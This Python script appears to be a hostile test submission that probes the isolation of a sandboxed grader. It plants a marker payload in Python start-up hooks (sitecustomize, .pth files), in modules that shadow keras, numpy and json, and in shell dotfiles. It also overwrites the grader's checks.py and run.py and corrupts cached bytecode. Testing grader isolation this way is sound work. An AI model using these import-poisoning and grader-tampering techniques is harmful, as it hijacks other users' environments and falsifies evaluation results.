import os
import site
import sys
from pathlib import Path

EVIL = "open('/tmp/hostile-mark-poison', 'w').write('x')\nraise SystemExit(87)\n"
places = {
    Path(os.__file__).parent: ("sitecustomize.py", "usercustomize.py", "site.py"),
    Path(site.getsitepackages()[0]): ("sitecustomize.py", "zz_hostile.pth", "keras.py"),
    Path(site.getusersitepackages()): ("usercustomize.py", "evil.pth"),
    Path.home(): (
        ".pythonrc",
        ".bashrc",
        ".profile",
        ".pdbrc",
        ".keras/keras.json",
        ".config/matplotlib/matplotlibrc",
    ),
    Path("/box/work"): ("keras.py", "numpy.py", "json.py", "sitecustomize.py", "conftest.py", "pytest.ini"),
    Path("/opt/vision-grader/grader"): (
        "confined/student/run.py",
        "confined/__init__.py",
        "wire/npy.py",
        "checks.py",
    ),
    Path("/tmp"): ("keras.py", "numpy.py"),
}
planted = []
for folder, names in places.items():
    for name in names:
        try:
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(EVIL)
            planted.append(str(path))
        except OSError:
            pass
for module in list(sys.modules.values()):
    cached = getattr(module, "__cached__", None)
    if isinstance(cached, str):
        try:
            Path(cached).write_bytes(b"poison")
            planted.append(cached)
        except OSError:
            pass
own = [path for path in planted if not path.startswith(("/box/", "/tmp/"))]
print("planted", own, flush=True)
# @solution
